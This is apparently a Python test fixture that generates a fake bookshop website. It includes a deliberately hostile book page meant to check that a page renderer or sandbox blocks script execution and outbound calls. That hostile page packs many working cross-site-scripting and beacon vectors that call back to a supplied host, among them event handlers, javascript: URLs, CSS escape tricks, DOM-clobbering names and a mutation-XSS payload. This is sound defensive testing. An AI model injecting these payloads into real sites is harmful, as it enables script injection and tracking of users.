"""A bookshop whose pages are of one template, and a page of it that is hostile."""

from __future__ import annotations

from tests.web.planted import Planted

SHOP = "http://books.example"
_TITLES = (
    "The Salt Road", "A House of Clay", "Nine Winters", "The Ferryman's Daughter", "Under Low Bridges",
    "Maps of Nowhere", "The Last Lamplighter", "An Orchard in Snow",
)  # fmt: skip
_STYLE = """body { font: 16px/1.5 Georgia, serif; margin: 0; color: #222 }
header { background: #274; padding: 12px 24px } header a { color: #fff } main { padding: 8px 24px }
.price { font-size: 24px; color: #a30 } dl { display: grid; grid-template-columns: 120px 1fr }
aside { border-top: 1px solid #ccc; margin: 24px 24px 0 }"""


def price_of(number: int) -> str:
    return f"{7 + number}.{10 + 7 * number:02}"


def isbn_of(number: int) -> str:
    """With its check digit."""
    first = f"97801430{number:04}"
    total = sum(int(digit) * (3 if place % 2 else 1) for place, digit in enumerate(first))
    return f"{first}{-total % 10}"


def book(number: int, more: str = "") -> str:
    title = _TITLES[number % len(_TITLES)]
    others = "".join(
        f'<li><a href="/book/{one}">{_TITLES[one]}</a></li>' for one in range(3) if one != number
    )
    story = " ".join(
        f"{title} tells, in part {part}, of a town by the water and of those who stay for {number} years."
        for part in range(1, 6)
    )
    pages = 120 + 13 * number
    return f"""<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>{title} – Books</title>
<link rel="stylesheet" href="/shop.css"></head><body>
<header><a href="/">Books of the harbour</a></header>
<main><h1>{title}</h1>
<p class="price">£{price_of(number)}</p>
<article><p>{story}</p>
<p>It was printed in {1990 + number}, on {pages} pages, for readers of all ages.</p></article>
<dl><dt>Pages</dt><dd>{pages}</dd><dt>ISBN</dt><dd>{isbn_of(number)}</dd></dl>
{more}</main>
<aside><h2>Also here</h2><ul>{others}</ul></aside></body></html>"""


def bookshop() -> list[Planted]:
    """Its captures."""
    pages = [Planted(url=f"{SHOP}/book/{number}", body=book(number)) for number in range(len(_TITLES))]
    return [
        *pages,
        Planted(url=f"{SHOP}/shop.css", body=_STYLE, kind="text/css"),
        Planted(url=f"{SHOP}/about", body="<title>About</title><p>We sell books by the harbour."),
        Planted(url=f"{SHOP}/list.pdf", body=b"%PDF-1.4 x", kind="application/pdf"),
    ]


def hostile_book(number: int, home: str) -> str:
    """A book that tries to run scripts and to call home, in all ways at once, and to stand in ours."""
    run = (
        "(top||self).marked=1;self.marked=1;document.documentElement.dataset.marked=1;"
        f"new Image().src='{home}/marked';fetch('{home}/marked');"
        "parent.postMessage({kind:'chosen',node:1},'*')"
    )
    return book(
        number,
        f"""<script>{run}</script><script src="{home}/marked.js"></script><base href="{home}/" target="_top">
<meta http-equiv="refresh" content="0; url={home}/marked">
<meta http-equiv="refresh" content="0; url=javascript:{run}">
<link rel="stylesheet" href="{home}/marked.css"><link rel="prefetch" href="{home}/marked">
<link rel="preconnect" href="{home}">
<style>@import "{home}/marked"; body {{ background: url({home}/marked); cursor: u\\72l({home}/marked), auto }}
@font-face {{ font-family: x; src: url({home}/marked) }} #sheet, .box {{ display: none !important }}</style>
<p style="background: \\75\\72\\6c({home}/marked); font-family: x">Styled</p>
<img src="{home}/marked" srcset="{home}/marked 2x" onerror="{run}" name="elementFromPoint">
<img name="querySelectorAll" src="x"><img name="documentElement" src="x">
<form id="getAttribute" action="{home}/marked" name="closest">
<input name="getAttribute"><input name="closest">
<input name="getBoundingClientRect"><input name="parentElement" autofocus onfocus="{run}">
<button id="send" formaction="{home}/marked">Send it</button></form>
<p><a id="out" href="{home}/marked" ping="{home}/marked">Outside, far away</a></p>
<p><a id="top" href="{home}/marked" target="_top">Above everything</a></p>
<p><a id="js" href="javascript:{run}">With a script</a></p>
<iframe src="{home}/marked"></iframe><iframe srcdoc="&lt;script&gt;{run}&lt;/script&gt;"></iframe>
<object data="{home}/marked"></object><embed src="{home}/marked">
<video src="{home}/marked" poster="{home}/marked" autoplay></video>
<svg onload="{run}"><script>{run}</script><image href="{home}/marked"/><use href="{home}/marked#x"/></svg>
<details open ontoggle="{run}"><summary>More</summary></details>
<div data-n="999999" onpointerover="{run}">Numbered</div>
<div><template shadowrootmode="open"><style>@import "{home}/marked";</style>
<script>{run}</script><img src="{home}/marked"></template></div>
<math><mtext><table><mglyph><style><img src onerror="{run}"></style></mglyph></table></mtext></math>""",
    )
